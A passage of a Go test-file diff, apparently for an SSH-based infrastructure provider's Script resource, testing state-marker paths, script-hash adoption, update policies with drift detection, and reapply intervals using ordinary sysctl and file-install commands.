+	return func(cr *apisv1alpha1.Script) { meta.SetExternalName(cr, name) }
+}
+
+func TestMarkerPath(t *testing.T) {
+	cases := map[string]struct {
+		reason string
+		mg     *apisv1alpha1.Script
+		want   string
+	}{
+		"NoExternalName": {
+			reason: "A Script without external name has no state marker.",
+			mg:     script(),
+			want:   "",
+		},
+		"Name": {
+			reason: "An external name that is not an absolute path, such as the name of the Script, is not a state marker.",
+			mg:     script(withExternalName("test")),
+			want:   "",
+		},
+		"Path": {
+			reason: "An absolute path should be used as the state marker.",
+			mg:     script(withExternalName("/var/lib/provider-ssh/../provider-ssh/nginx.json")),
+			want:   "/var/lib/provider-ssh/nginx.json",
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			if diff := cmp.Diff(tc.want, markerPath(tc.mg)); diff != "" {
+				t.Errorf("\n%s\nmarkerPath(...): -want, +got:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func TestAdopt(t *testing.T) {
+	withScriptHash := func(hash string) scriptModifier {
+		return func(cr *apisv1alpha1.Script) { cr.Status.AtProvider.ScriptHash = hash }
+	}
+
+	cases := map[string]struct {
+		reason  string
+		mg      *apisv1alpha1.Script
+		content []byte
+		want    string
+	}{
+		"Empty": {
+			reason:  "An empty state marker should leave the status unchanged.",
+			mg:      script(),
+			content: []byte{},
+			want:    "",
+		},
+		"Hash": {
+			reason:  "The hash of the initScript should be initialized from the state marker.",
+			mg:      script(),
+			content: markerFor(script(withScriptHash("abc"))),
+			want:    "abc",
+		},
+		"Recorded": {
+			reason:  "A hash already recorded in the status should not be overwritten.",
+			mg:      script(withScriptHash("def")),
+			content: markerFor(script(withScriptHash("abc"))),
+			want:    "def",
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			adopt(tc.mg, tc.content)
+			if diff := cmp.Diff(tc.want, tc.mg.Status.AtProvider.ScriptHash); diff != "" {
+				t.Errorf("\n%s\nadopt(...): -want, +got:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func withUpdatePolicy(p apisv1alpha1.UpdatePolicy) scriptModifier {
+	return func(cr *apisv1alpha1.Script) { cr.Spec.ForProvider.UpdatePolicy = p }
+}
+
+func withDrifted() scriptModifier {
+	return func(cr *apisv1alpha1.Script) { cr.SetConditions(apisv1alpha1.Drifted()) }
+}
+
+func TestObserveUpdatePolicy(t *testing.T) {
+	withRecreate := func(hash string) scriptModifier {
+		return func(cr *apisv1alpha1.Script) {
+			cr.Spec.ForProvider.UpdateStrategy = apisv1alpha1.UpdateStrategyRecreate
+			cr.Status.AtProvider.ScriptHash = hash
+		}
+	}
+
+	type want struct {
+		o       managed.ExternalObservation
+		drifted corev1.ConditionStatus
+	}
+
+	cases := map[string]struct {
+		reason string
+		mg     *apisv1alpha1.Script
+		code   int
+		want   want
+	}{
+		"OnDrift": {
+			reason: "A drifted resource should not be up to date by default, so that its updateScript is executed.",
+			mg:     script(withStatusCheck("sysctl -n vm.swappiness | grep -qx 10 || exit 3"), withUpdate("sysctl -w vm.swappiness=10")),
+			code:   3,
+			want: want{
+				o:       managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: false},
+				drifted: corev1.ConditionUnknown,
+			},
+		},
+		"AlwaysInSync": {
+			reason: "A resource in sync should not be up to date with the Always updatePolicy, so that its updateScript is executed.",
+			mg:     script(withStatusCheck("sysctl -n vm.swappiness | grep -qx 10 || exit 3"), withUpdate("sysctl -w vm.swappiness=10"), withUpdatePolicy(apisv1alpha1.UpdatePolicyAlways)),
+			want: want{
+				o:       managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: false},
+				drifted: corev1.ConditionUnknown,
+			},
+		},
+		"AlwaysMissing": {
+			reason: "A missing resource should still be created with the Always updatePolicy.",
+			mg:     script(withStatusCheck("sysctl -n vm.swappiness | grep -qx 10 || exit 3"), withUpdatePolicy(apisv1alpha1.UpdatePolicyAlways)),
+			code:   apisv1alpha1.DefaultExitCodeMissing,
+			want: want{
+				o:       managed.ExternalObservation{ResourceExists: false},
+				drifted: corev1.ConditionUnknown,
+			},
+		},
+		"Never": {
+			reason: "A drifted resource should be up to date with the Never updatePolicy, the drift being reported through the Drifted condition.",
+			mg:     script(withStatusCheck("sysctl -n vm.swappiness | grep -qx 10 || exit 3"), withUpdate("sysctl -w vm.swappiness=10"), withUpdatePolicy(apisv1alpha1.UpdatePolicyNever)),
+			code:   3,
+			want: want{
+				o:       managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true},
+				drifted: corev1.ConditionTrue,
+			},
+		},
+		"NeverInSync": {
+			reason: "The Drifted condition should be cleared once the resource is in sync again.",
+			mg:     script(withStatusCheck("sysctl -n vm.swappiness | grep -qx 10 || exit 3"), withUpdatePolicy(apisv1alpha1.UpdatePolicyNever), withDrifted()),
+			want: want{
+				o:       managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true},
+				drifted: corev1.ConditionFalse,
+			},
+		},
+		"NeverRecreate": {
+			reason: "A changed initScript should still be recreated with the Never updatePolicy.",
+			mg: script(withStatusCheck("sysctl -n vm.swappiness | grep -qx 10 || exit 3"), withInit("sysctl -w vm.swappiness=10"),
+				withUpdatePolicy(apisv1alpha1.UpdatePolicyNever), withRecreate("stale")),
+			want: want{
+				o:       managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: false},
+				drifted: corev1.ConditionUnknown,
+			},
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			e := external{service: executor(t, tc.code), recorder: event.NewNopRecorder()}
+			got, err := e.Observe(context.Background(), tc.mg)
+			if err != nil {
+				t.Fatalf("\n%s\ne.Observe(...): %v", tc.reason, err)
+			}
+			if diff := cmp.Diff(tc.want.o, got, cmpopts.IgnoreFields(managed.ExternalObservation{}, "ConnectionDetails")); diff != "" {
+				t.Errorf("\n%s\ne.Observe(...): -want, +got:\n%s\n", tc.reason, diff)
+			}
+			if diff := cmp.Diff(tc.want.drifted, tc.mg.GetCondition(apisv1alpha1.TypeDrifted).Status); diff != "" {
+				t.Errorf("\n%s\ne.Observe(...): -want Drifted, +got Drifted:\n%s\n", tc.reason, diff)
+			}
+		})
+	}
+}
+
+func withReapply(interval, sinceApplied time.Duration) scriptModifier {
+	return func(cr *apisv1alpha1.Script) {
+		cr.Spec.ForProvider.ReapplyInterval = &metav1.Duration{Duration: interval}
+		if sinceApplied > 0 {
+			t := metav1.NewTime(time.Now().Add(-sinceApplied))
+			cr.Status.AtProvider.LastAppliedTime = &t
+		}
+	}
+}
+
+func TestObserveReapply(t *testing.T) {
+	cases := map[string]struct {
+		reason string
+		mg     *apisv1alpha1.Script
+		want   managed.ExternalObservation
+	}{
+		"NotDue": {
+			reason: "A resource in sync should be up to date before its reapplyInterval elapsed.",
+			mg:     script(withStatusCheck("test -f /etc/app.conf"), withUpdate("install -m 644 app.conf /etc/app.conf"), withReapply(time.Hour, time.Minute)),
+			want:   managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true},
+		},
+		"Due": {
+			reason: "A resource in sync should not be up to date once its reapplyInterval elapsed, so that its updateScript is executed.",
+			mg:     script(withStatusCheck("test -f /etc/app.conf"), withUpdate("install -m 644 app.conf /etc/app.conf"), withReapply(time.Hour, 2*time.Hour)),
+			want:   managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: false},
+		},
+		"Adopted": {
+			reason: "The reapplyInterval of a resource applied before the time was recorded should elapse from now.",
+			mg:     script(withStatusCheck("test -f /etc/app.conf"), withUpdate("install -m 644 app.conf /etc/app.conf"), withReapply(time.Hour, 0)),
+			want:   managed.ExternalObservation{ResourceExists: true, ResourceUpToDate: true},
+		},
+	}
+
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			e := external{service: executor(t, 0), recorder: event.NewNopRecorder()}
+			got, err := e.Observe(context.Background(), tc.mg)
+			if err != nil {
+				t.Fatalf("\n%s\ne.Observe(...): %v", tc.reason, err)
+			}
+			if diff := cmp.Diff(tc.want, got, cmpopts.IgnoreFields(managed.ExternalObservation{}, "ConnectionDetails")); diff != "" {
+				t.Errorf("\n%s\ne.Observe(...): -want, +got:\n%s\n", tc.reason, diff)
+			}
+			if tc.mg.Status.AtProvider.LastAppliedTime == nil {
+				t.Errorf("\n%s\ne.Observe(...): want the lastAppliedTime of the resource recorded", tc.reason)
+			}
+		})
+	}
+}
+
+func TestUpdateReapply(t *testing.T) {
+	cr := script(withStatusCheck("test -f /etc/app.conf"), withUpdate("install -m 644 app.conf /etc/app.conf"), withReapply(time.Hour, 2*time.Hour))
+	e := external{service: executor(t, 0), recorder: event.NewNopRecorder()}
+	if _, err := e.Update(context.Background(), cr); err != nil {
+		t.Fatalf("e.Update(...): %v", err)
+	}
+	if reapplyDue(cr) {
+		t.Errorf("e.Update(...): the reapplyInterval should elapse again from the successful updateScript, last applied at %s", cr.Status.AtProvider.LastAppliedTime)
+	}
+	if got := pollInterval(cr, 2*time.Hour); got <= 0 || got > time.Hour {
+		t.Errorf("pollInterval(...): want the time until the next reapply, got %s", got)
+	}
+}